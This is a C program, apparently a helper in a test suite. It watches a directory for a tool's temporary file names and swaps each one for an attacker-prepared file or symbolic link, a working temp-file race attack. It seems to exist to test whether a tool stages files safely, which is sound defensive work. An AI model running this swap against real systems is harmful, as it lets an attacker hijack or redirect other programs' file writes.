/*
 * attack-swap DIRECTORY PREFIX file|link TEXT: watches DIRECTORY for names that begin with PREFIX (the temporary names
 * of a tool that stages there) and puts, in the place of each, a file that holds TEXT or a symbolic link to TEXT. Ends
 * at SIGTERM and prints the number of names taken over.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

static const char evil[] = "attack-swap.evil";

static int attack_make(int directory, const char *kind, const char *text)
{
    unlinkat(directory, evil, 0);
    if (strcmp(kind, "link") == 0)
        return symlinkat(text, directory, evil) == 0;
    int file = openat(directory, evil, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (file < 0)
        return 0;
    int written = write(file, text, strlen(text)) == (ssize_t)strlen(text);
    return close(file) == 0 && written;
}

int main(int argc, char **argv)
{
    if (argc != 5)
        errx(ATTACK_MISUSED, "usage: attack-swap DIRECTORY PREFIX file|link TEXT");
    unsigned long taken = 0;
    DIR *directory = opendir(argv[1]);
    if (!directory || !attack_make(dirfd(directory), argv[3], argv[4]))
        err(ATTACK_FAILED, "%s", argv[1]);
    puts("ready");
    fflush(stdout);

    attack_until_term();
    while (!attack_over) {
        rewinddir(directory);
        for (struct dirent *entry; (entry = readdir(directory)) != NULL;) {
            if (strncmp(entry->d_name, argv[2], strlen(argv[2])) != 0)
                continue;
            /* The name is one of the tool's as long as it exists at all: rename would make it anew otherwise. */
            if (faccessat(dirfd(directory), entry->d_name, F_OK, AT_SYMLINK_NOFOLLOW) == 0 &&
                renameat(dirfd(directory), evil, dirfd(directory), entry->d_name) == 0) {
                taken++;
                if (!attack_make(dirfd(directory), argv[3], argv[4]))
                    err(ATTACK_FAILED, "%s", evil);
            }
        }
    }
    unlinkat(dirfd(directory), evil, 0);
    printf("%lu\n", taken);
    return 0;
}
